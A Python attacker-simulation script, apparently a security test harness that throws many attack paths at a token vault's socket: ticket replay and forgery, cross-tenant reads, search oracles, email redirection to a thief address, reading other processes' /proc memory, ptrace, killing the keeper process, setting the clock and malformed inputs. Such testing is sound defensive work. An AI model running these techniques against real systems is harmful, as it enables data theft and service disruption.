#!/usr/bin/python3
"""A program planted in the application: runs as the application's user, knows every token that the
application has stored (and some of another tenant's, from a stolen copy), and sees the tickets of
requests as they come by, on its standard input. It prints whatever it has got, one JSON line a path that
it tried; README.md tells the paths. attacker.py STATE TOKENS.json SECONDS"""
import base64
import ctypes
import json
import os
import random
import re
import sys
import threading
import time

import vault

STATE, LOOT, SECONDS = sys.argv[1], json.load(open(sys.argv[2], encoding="utf-8")), float(sys.argv[3])
SOCKET = STATE + "/run/vault.sock"
KNOWN = re.compile(r"客(\d{5})|090-?2\d{3}-?\d{4}|c\d{5}@example\.jp")
lock, out = threading.Lock(), threading.Lock()
tickets = []  # (when it came, text, kind)
tried = {}


def tickets_read():
    for line in sys.stdin:
        kind, _, text = line.strip().partition(" ")
        with lock:
            tickets.append((time.monotonic(), text, kind))
            del tickets[:-200]


def victim_of(i):
    return LOOT["mine"][i % len(LOOT["mine"])]


def ticket(kind="owner", newest=5):
    with lock:
        fitting = [t[1] for t in tickets if t[2] == kind]
    return random.choice(fitting[-newest:]) if fitting else ""


def got(path, text):
    """Notes that a path was tried, and tells what of people's data stood in an answer."""
    found = sorted({m.group(0) for m in KNOWN.finditer(text)})
    with out:
        tried[path] = tried.get(path, 0) + 1
        if found or tried[path] == 1:
            print(json.dumps({"path": path, "found": found, "at": time.time(), "answer": text[:120]},
                             ensure_ascii=False), flush=True)
    return found


def ask(path, verb, question, with_ticket=None, **more):
    status, text = vault.ask(SOCKET, "/v1/" + verb, question, with_ticket, **more)
    got(path, text)
    return status, text


# --- for as long as it lasts: reading in all ways, from many threads ---

def harvest(end):
    while time.monotonic() < end:
        purpose, kind = random.choice([("orders", "name"), ("orders", "phone"), ("service", "name"),
                                       ("service", "email"), ("orders", "address")])
        size = random.choice([1, 1, 2, 5, 20])
        start = random.randrange(len(LOOT["mine"]))
        tokens = [p[kind] for p in LOOT["mine"][start:start + size]]
        ask("harvest %s" % purpose, "read", {"purpose": purpose, "tokens": tokens}, ticket())


def earned(end):
    """What came with orders is read beside the budgets: again and again."""
    while time.monotonic() < end:
        person = random.choice(LOOT["orders"])
        ask("earned", "read", {"purpose": "orders", "tokens": [person["name"], person["phone"]]}, ticket())
        time.sleep(0.01)


def labels(end):
    """A label is a picture of who is on it: whoever gets it reads it."""
    while time.monotonic() < end:
        victim = random.choice(LOOT["mine"])
        _, text = vault.ask(SOCKET, "/v1/render", {"purpose": "shipping", "what": "label", "name": victim["name"],
                                                   "address": victim["address"], "code": "x", "from": "x"}, ticket())
        got("labels", "客%05d" % victim["n"] if '"pdf"' in text else text)


# --- one by one ---

def replay():
    old = ticket()
    for i in range(60):
        ask("replay a ticket", "read", {"purpose": "orders", "tokens": [victim_of(i * 7)["name"]]}, old)
        time.sleep(0.02)


def forge():
    head, payload, mac = ticket().split(".")
    body = json.loads(base64.urlsafe_b64decode(payload + "=="))
    changes = [{"tenant": "shop/cloth"}, {"tenant": ""}, {"site": "console", "realm": "operator"}, {"level": 2},
               {"at": body["at"] + 3600000}, {"id": "OTHER"}]
    tokens = [p["name"] for p in LOOT["other"][:5] + LOOT["mine"][:5]]
    for change in changes:
        text = vault.base64url(json.dumps({**body, **change}).encode())
        for forged in ("%s.%s.%s" % (head, text, mac), "%s.%s." % (head, text), vault.sign(b"", {**body, **change}),
                       vault.sign(bytes(32), {**body, **change})):
            ask("forge a ticket", "read", {"purpose": "orders", "tokens": tokens}, forged)
    ask("no ticket", "read", {"purpose": "orders", "tokens": tokens}, None)


def borders():
    for i in range(0, 200, 20):
        tokens = [p["name"] for p in LOOT["other"][i:i + 20]]
        for purpose in ("orders", "service"):
            ask("another tenant's tokens", "read", {"purpose": purpose, "tokens": tokens, "tenant": "shop/cloth"},
                ticket())
            ask("another tenant's tokens", "read", {"purpose": purpose, "tokens": tokens}, ticket("nobody"))
        ask("another tenant's person", "put", {"person": LOOT["other"][i]["person"],
                                               "values": [{"kind": "note", "text": "x"}]}, ticket())


def other_purposes():
    names = [p["name"] for p in LOOT["mine"][:20]]
    for purpose in ("orders", "service", "shipping", "notices", "pages", "fun", "", "orders\0"):
        for kind in ("owner", "nobody", "sub"):
            ask("purposes of others", "read", {"purpose": purpose, "tokens": names}, ticket(kind))
    ask("500 at once", "read", {"purpose": "orders", "tokens": [p["name"] for p in LOOT["mine"][:500]]}, ticket())


def oracle():
    for i in range(5):  # each search is one person less to read
        ask("search by prefix", "find", {"purpose": "orders", "kind": "phone", "prefix": "0902%03d" % i}, ticket())
        ask("search by name", "find", {"purpose": "orders", "kind": "name", "text": "客%05d" % i}, ticket())


def own_letters():
    """Lets the vault write to itself about others."""
    _, text = ask("put", "put", {"values": [{"kind": "email", "text": "thief@example.com"}], "earns": "notices"},
                  ticket())
    try:
        own = json.loads(text)["tokens"][0]
    except (ValueError, KeyError):
        return
    for i in range(30):
        victim = victim_of(1000 + i)
        _, text = ask("an address of one's own for somebody else", "put",
                      {"person": victim["person"], "values": [{"kind": "email", "text": "thief@example.com"}]}, ticket())
        ask("letters to oneself", "render",
            {"purpose": "notices", "what": "mail", "to": own, "subject": "x", "text": "{a}",
             "fill": {"a": victim["name"]}, "key": "moved-in-%d" % i}, ticket())
        ask("letters to oneself", "render",
            {"purpose": "notices", "what": "mail", "to": own, "subject": "x", "text": "{a} {b}",
             "fill": {"a": victim["name"], "b": victim["phone"]}, "key": "thief-%d" % i}, ticket())


def earn_others():
    for i in range(40):
        victim = victim_of(2000 + i)
        _, text = ask("earn a victim's address", "put",
                      {"values": [{"kind": "email", "text": "c%05d@example.jp" % victim["n"]}], "earns": "service"},
                      ticket())
        ask("earn a victim's address", "put", {"person": victim["person"], "earns": "orders",
                                               "values": [{"kind": "note", "text": "x"}]}, ticket())
        ask("read what was earned", "read", {"purpose": "service", "tokens": [victim["email"]]}, ticket())


def the_gates_doors():
    tokens = [p["name"] for p in LOOT["mine"][:100]]
    for verb in ("exchange/out", "exchange/in", "export", "hold", "rotate", "status"):
        ask("the gate's and the operator's verbs", verb,
            {"purpose": "orders", "tokens": tokens, "person": LOOT["mine"][0]["person"], "level": "root"}, ticket())
        ask("the gate's and the operator's verbs", verb,
            {"purpose": "orders", "tokens": tokens, "person": LOOT["mine"][0]["person"], "tenant": "shop/tea"}, None)


def other_sockets():
    import socket
    for name in sorted(os.listdir(STATE + "/run")):
        path = STATE + "/run/" + name
        for data in (b"GET /v1/outbox HTTP/1.1\r\nHost: x\r\n\r\n", b"\0\0\0\1\2", b"{\"do\":\"append\"}\n"):
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.settimeout(0.3)
            try:
                s.connect(path)
                s.sendall(data)
                got("other sockets", name + " " + s.recv(1 << 20).decode("utf-8", "replace"))
            except OSError as error:
                got("other sockets", "%s %r" % (name, error))
            finally:
                s.close()


def files():
    for folder, _, names in os.walk(STATE):
        for name in names:
            try:
                with open(os.path.join(folder, name), "rb") as file:
                    data = file.read(1 << 24)
                got("files", data.decode("utf-8", "replace"))
                if name == "ticket.key":
                    got("files", "客99999 the ticket key")
            except OSError:
                got("files that may not be read", "")


def memory():
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            name = open("/proc/%s/cmdline" % pid, "rb").read()
        except OSError:
            continue
        if b"sekisho" not in name or int(pid) == os.getpid():
            continue
        for what in ("mem", "environ", "maps", "root", "fd"):
            try:
                path = "/proc/%s/%s" % (pid, what)
                data = repr(os.listdir(path)) if what in ("root", "fd") else \
                    "" if what == "mem" and open(path, "rb") is None else open(path, "rb").read(4096).decode("latin-1")
                got("memory of others", data)
            except OSError:
                got("memory of others, refused", "")
        attached = b"part\0keeper" in name and libc.ptrace(16, int(pid), 0, 0) == 0
        got("ptrace", "客99999 attached" if attached else "refused")
        if b"part\0keeper" in name or b"part\0vault" in name:
            try:
                os.kill(int(pid), 9)
                got("kill the keeper", "客99999 killed")
            except OSError:
                got("kill the keeper", "refused")


def clock():
    try:
        time.clock_settime(time.CLOCK_REALTIME, time.time() + 86400)
        got("clock", "客99999 set")
    except OSError:
        got("clock", "refused")


def malformed():
    for raw in (b"{", b"[" * 5000, b"\0" * 100, b'{"purpose":"orders","tokens":' + b"[" * 100000,
                json.dumps({"purpose": "orders", "tokens": ["x" * 4000] * 200}).encode(), b"x" * (1 << 20)):
        for verb in ("read", "put", "find", "render"):
            ask("malformed", verb, None, ticket(), raw=raw)


def main():
    threading.Thread(target=tickets_read, daemon=True).start()
    while not ticket():
        time.sleep(0.01)
    end = time.monotonic() + SECONDS
    threads = [threading.Thread(target=harvest, args=(end,)) for _ in range(6)]
    threads += [threading.Thread(target=path, args=(end,)) for path in (earned, labels)]
    threads += [threading.Thread(target=path) for path in (
        replay, forge, borders, other_purposes, oracle, own_letters, earn_others, the_gates_doors, other_sockets,
        files, memory, clock, malformed)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(json.dumps({"tried": tried}, ensure_ascii=False), flush=True)


main()
